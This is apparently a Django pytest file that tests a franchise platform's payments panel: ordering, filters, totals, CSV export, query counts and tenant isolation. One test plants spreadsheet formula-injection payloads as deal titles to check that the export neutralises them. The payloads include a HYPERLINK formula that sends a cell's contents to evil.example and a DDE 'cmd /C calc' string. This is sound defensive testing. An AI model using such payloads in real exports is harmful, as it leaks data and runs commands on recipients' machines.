"""/panel/payments/: newest first, filters, the filtered total, and the same list as CSV."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.db import reset_queries
from django.utils import timezone
from django_tenants.utils import tenant_context

from franchise_platform.network.models import Location
from franchise_platform.payments.models import Deal, Payment
from tests.factories import shop

from .conftest import count_queries, paid_deal

pytestmark = pytest.mark.django_db


@pytest.fixture
def three_payments(in_network):
    """1500 (Казань, today), 3000 (Казань, 10 days ago), 900 (Уфа, today)."""
    anon = in_network.anonymous()
    kazan = shop(merchant_login="kazan")
    ufa = shop(merchant_login="ufa")
    today = paid_deal(anon, account=kazan, lead=7001, total="5000", refused=False)
    old = paid_deal(anon, account=kazan, lead=7002, total="10000", refused=False)
    other = paid_deal(anon, account=ufa, lead=7003, total="3000", refused=False)
    Payment.objects.filter(deal=old.deal).update(paid_at=timezone.now() - timedelta(days=10))
    return today, old, other


def _csv(response) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    decoded = text.decode("utf-8")
    assert decoded.startswith("\ufeff")  # Excel reads the Cyrillic right
    return list(csv.DictReader(io.StringIO(decoded.lstrip("\ufeff"))))


def test_newest_first_with_the_total(in_network, owner, three_payments):
    today, old, other = three_payments

    html = owner.get("/panel/payments/").content.decode()

    assert html.index("amoCRM № 7003") < html.index("amoCRM № 7001") < html.index("amoCRM № 7002")
    assert 'id="payments-total">5\xa0400,00 ₽' in html
    assert 'id="payments-count">3<' in html


def test_filters_narrow_the_list_and_its_total(in_network, owner, three_payments):
    today, old, other = three_payments
    kazan_partner = today.account.partner_id
    since = (timezone.localdate() - timedelta(days=1)).isoformat()

    by_partner = owner.get("/panel/payments/", {"partner": kazan_partner}).content.decode()
    by_location = owner.get("/panel/payments/", {"location": other.location.pk}).content.decode()
    recent = owner.get(
        "/panel/payments/", {"partner": kazan_partner, "paid_from": since}
    ).content.decode()

    assert 'id="payments-total">4\xa0500,00 ₽' in by_partner and "amoCRM № 7003" not in by_partner
    assert 'id="payments-total">900,00 ₽' in by_location
    assert 'id="payments-total">1\xa0500,00 ₽' in recent
    assert "Итого по фильтру" in recent


def test_csv_holds_the_filtered_list_machine_readable(in_network, owner, three_payments):
    today, old, other = three_payments

    response = owner.get("/panel/payments/export.csv", {"partner": today.account.partner_id})
    rows = _csv(response)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="payments-')
    assert [r["crm_deal_id"] for r in rows] == ["7001", "7002"]
    first = rows[0]
    assert (first["amount"], first["currency"], first["kind"]) == ("1500.00", "RUB", "prepayment")
    assert first["invoice_id"] == str(today.invoice.pk)
    assert first["partner"] == today.account.partner.name
    assert first["location"] == today.location.name
    assert first["paid_at"].endswith("+03:00")  # ISO 8601 with the zone
    assert (first["source"], first["is_test"]) == ("callback", "0")


HOSTILE_TITLES = {
    7001: '=HYPERLINK("https://evil.example/?"&A1,"Квест")',
    7002: "+7 (999) 000-00-00",
    7003: "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_csv_keeps_formula_like_cells_as_text(in_network, owner, three_payments):
    """Lead titles and location names come from the public: a spreadsheet must show them, never
    run them."""
    for paid in three_payments:
        Deal.objects.filter(pk=paid.deal.pk).update(title=HOSTILE_TITLES[paid.deal.crm_deal_id])
    location = three_payments[0].location
    Location.objects.filter(pk=location.pk).update(name="-2+3")
    Location.objects.filter(pk=three_payments[2].location.pk).update(name="\t=1+1")

    rows = {r["crm_deal_id"]: r for r in _csv(owner.get("/panel/payments/export.csv"))}

    for lead, title in HOSTILE_TITLES.items():
        assert rows[str(lead)]["deal_title"] == "'" + title
    assert rows["7001"]["location"] == "'-2+3"
    assert rows["7003"]["location"] == "'\t=1+1"
    assert rows["7001"]["amount"] == "1500.00"  # plain numbers stay numbers


def test_the_page_link_to_csv_carries_the_filters(in_network, owner, three_payments):
    today, *_ = three_payments

    html = owner.get("/panel/payments/", {"partner": today.account.partner_id}).content.decode()

    assert f"/panel/payments/export.csv?partner={today.account.partner_id}" in html


def test_viewer_may_read_and_export(in_network, three_payments):
    viewer = in_network.viewer.browser_client()

    assert viewer.get("/panel/payments/").status_code == 200
    assert len(_csv(viewer.get("/panel/payments/export.csv"))) == 3


def test_list_queries_do_not_grow_with_payments(
    in_network, owner, three_payments, django_assert_max_num_queries
):
    owner.get("/panel/payments/")
    three = count_queries(lambda: owner.get("/panel/payments/"))
    account = shop(merchant_login="more")
    for lead in range(7100, 7110):
        paid_deal(in_network.anonymous(), account=account, lead=lead, refused=False)

    reset_queries()
    with django_assert_max_num_queries(three):
        html = owner.get("/panel/payments/").content.decode()

    assert 'id="payments-count">13<' in html


def test_network_b_sees_none_of_a_payments(in_network, owner_b, three_payments):
    client = owner_b.browser_client()

    html = client.get("/panel/payments/").content.decode()
    rows = _csv(client.get("/panel/payments/export.csv"))

    assert "amoCRM № 7001" not in html and "Платежей пока нет" in html
    assert rows == []
    with tenant_context(in_network.network):
        assert Payment.objects.count() == 3
